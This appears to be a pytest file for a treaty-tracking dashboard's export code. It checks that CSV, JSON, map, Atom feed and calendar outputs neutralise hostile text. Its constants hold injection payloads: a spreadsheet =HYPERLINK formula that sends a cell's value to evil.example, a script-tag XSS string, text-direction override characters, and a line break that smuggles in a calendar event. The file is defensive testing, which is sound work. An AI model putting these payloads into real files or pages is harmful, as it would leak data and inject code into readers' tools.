"""Packs made to do harm: formulas, markup, writing that turns round, and far too many rows."""

import csv
import io
import json
from collections import Counter
from pathlib import Path
from xml.etree import ElementTree as Xml

import feedparser
import geopandas as gpd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from icalendar import Calendar
from publish.checked import checked
from samples import PackCopy, day

from dashboard.paths import ASSETS, BOUNDARIES
from dashboard.publish.calendar_file import calendar_file
from dashboard.publish.export import export_data
from dashboard.publish.feed import feed_file
from dashboard.publish.geometry import Geometry
from dashboard.publish.spreadsheet import unguarded
from dashboard.publish.takeaway import Takeaway
from dashboard.publish.tokens import light_colours
from dashboard.record.ledger import Ledger
from dashboard.record.models import Event
from dashboard.record.pack import Pack
from dashboard.record.plain import plain
from dashboard.story.frames import build_frames

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Finland")'
MARKUP = "<script>alert('4711')</script> & <!-- ]]> \"quoted\""
TURNED = "\u202eabc\u202c \u2066left\u2069 \u200f\u061c"
CONTROL = "a\x01b\x0bc\x1bd\x85e\ufffe"
LINES = "one\r\nBEGIN:VEVENT\nUID:evil"
HARM = [FORMULA, "+1", "-1+1", "@SUM(1)", MARKUP, TURNED, CONTROL, LINES, "'=1", "a\\,b;c:d"]
ACTS = {
    "BGR": "bgr-1998-09-04-ratification",
    "EST": "est-2025-06-27-notification",
    "FIN": "fin-2025-07-10-notification",
    "HUN": "hun-1998-04-06-ratification",
    "LVA": "lva-2025-06-27-notification",
    "LTU": "ltu-2025-06-27-notification",
    "NOR": "nor-1998-07-09-ratification",
    "POL": "pol-2025-08-20-notification",
    "ROU": "rou-2000-11-30-ratification",
    "SVK": "svk-1999-02-25-approval",
}
HARM_TO = dict(zip(ACTS, HARM, strict=True))
"""The harm in the name, the notes and the act of each state."""


def taken(pack: PackCopy) -> Takeaway:
    ledger = Ledger(pack.read())
    geometry, colours = Geometry.read(ledger, BOUNDARIES), light_colours(ASSETS / "tokens.css")
    return Takeaway(ledger, build_frames(ledger), geometry, "", colours)


@pytest.fixture(scope="module")
def harmed(tmp_path_factory: pytest.TempPathFactory) -> Takeaway:
    """Every harm wherever the loader takes any text."""
    pack = PackCopy(tmp_path_factory.mktemp("harmed"))
    quotes, claims = pack.records("quotes.csv")[1:], pack.records("claims.csv")[1:]
    sources, borders = pack.records("sources.csv")[1:], pack.records("borders.csv")[1:]
    for at, (state, harm) in enumerate(HARM_TO.items()):
        pack.edit("states.csv", state, name=harm, note=harm, nato_note=harm)
        pack.edit("events.csv", ACTS[state], title=harm, detail=harm, effect_note=harm)
        pack.edit("quotes.csv", quotes[at][0], quote=harm, speaker=harm, role=harm, note=harm)
        pack.edit("sources.csv", sources[at][0], publisher=harm, title=harm, note=harm)
        pack.edit("claims.csv", claims[at][0], words=harm, value=harm, record=harm, reason=harm)
        pack.edit("borders.csv", ",".join(borders[at][:2]), note=harm)
    return taken(pack)


def test_no_cell_runs_and_every_word_is_there(harmed: Takeaway) -> None:
    seen = Counter[str]()
    for name in harmed.names:
        if name.endswith(".csv"):
            content = harmed.file(name).decode("utf-8-sig")
            for row in csv.reader(io.StringIO(content, newline=""), strict=True):
                for cell in row:
                    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")), name
                    seen[unguarded(cell)] += 1
    assert {harm: seen[plain(harm)] for harm in HARM if seen[plain(harm)] < 15} == {}


def test_json_and_maps_hold_the_very_words(harmed: Takeaway, tmp_path: Path) -> None:
    words = [plain(harm) for harm in HARM]
    quotes = json.loads(harmed.file("quotes.json"))
    assert [quote["quote"] for quote in quotes[: len(HARM)]] == words
    states = json.loads(harmed.standing(day("2025-12-27"), "json"))["states"]
    names = {state["iso_a3"]: state["name"] for state in states}
    assert [names[state] for state in HARM_TO] == words
    for name, layer in (("standing/latest.geojson", None), ("flankwatch.gpkg", "states")):
        path = tmp_path / name.replace("/", "-")
        path.write_bytes(harmed.file(name))
        read = gpd.read_file(path, layer=layer) if layer else gpd.read_file(path)
        assert list(read.set_index("iso_a3").loc[list(HARM_TO), "name"]) == words


def test_a_feed_stays_a_feed_and_carries_no_markup_of_others(harmed: Takeaway) -> None:
    content = harmed.file("feed.atom")
    assert Xml.fromstring(content).tag == "{http://www.w3.org/2005/Atom}feed"
    feed = feedparser.parse(content, sanitize_html=False)
    assert not feed.bozo
    assert len(feed.entries) == 41
    for entry in feed.entries:
        assert "<script" not in entry.content[0].value
        assert "<!--" not in entry.content[0].value


@pytest.fixture(scope="module")
def usual(takeaway: Takeaway) -> list[str]:
    """The UIDs of the calendar without harm."""
    entries = Calendar.from_ical(takeaway.file("dates.ics")).walk("VEVENT")
    return [entry["UID"] for entry in entries]


def test_a_calendar_stays_a_calendar(harmed: Takeaway, usual: list[str]) -> None:
    content = harmed.file("dates.ics")
    assert not set(content) & {*range(0x00, 0x0A), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F}
    entries = Calendar.from_ical(content).walk("VEVENT")
    assert [entry["UID"] for entry in entries] == usual
    said = {entry["UID"].partition("@")[0]: entry["SUMMARY"] for entry in entries}
    for state, harm in HARM_TO.items():
        if harm not in (CONTROL, LINES):
            assert said[ACTS[state]] == plain(harm)


def test_the_description_still_holds(harmed: Takeaway, tmp_path: Path) -> None:
    export_data(harmed, {}, tmp_path / "site")
    assert checked(tmp_path / "site" / "data").flatten() == []


@settings(max_examples=60, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(words=st.text(st.characters(exclude_characters="\0", exclude_categories=["Cs"]), min_size=1))
def test_no_words_break_calendar_or_feed(ledger: Ledger, words: str) -> None:
    events = [
        event.model_copy(update={"title": words, "detail": words})
        for event in ledger.pack.events
        if event.iso_a3 == "FIN"
    ]
    altered = altered_ledger(ledger.pack, events, words)
    calendar = Calendar.from_ical(calendar_file(altered, ""))
    assert {entry["DTSTART"].dt for entry in calendar.walk("VEVENT")}
    feed = feedparser.parse(feed_file(altered, build_frames(altered), ""))
    assert not feed.bozo


def altered_ledger(pack: Pack, events: list[Event], name: str) -> Ledger:
    finland = pack.states["FIN"].model_copy(update={"name": name})
    sources = {
        id_: source.model_copy(update={"publisher": name}) for id_, source in pack.sources.items()
    }
    states = {**pack.states, "FIN": finland}
    return Ledger(
        Pack(
            pack.treaty,
            states,
            tuple(events),
            pack.quotes,
            sources,
            pack.claims,
            pack.borders,
            pack.names,
        )
    )


def test_five_thousand_quotes_and_ten_thousand_events_are_given_away(pack: PackCopy) -> None:
    pack.grow(quotes=5000, events=10_000)
    takeaway = taken(pack)
    for name in takeaway.names:
        takeaway.file(name)
    assert takeaway.file("quotes.csv").count(b"\r\n") == 5001
    assert takeaway.file("events.csv").count(b"\r\n") == 10_001
    assert takeaway.file("dates.ics").count(b"BEGIN:VEVENT") > 4_800
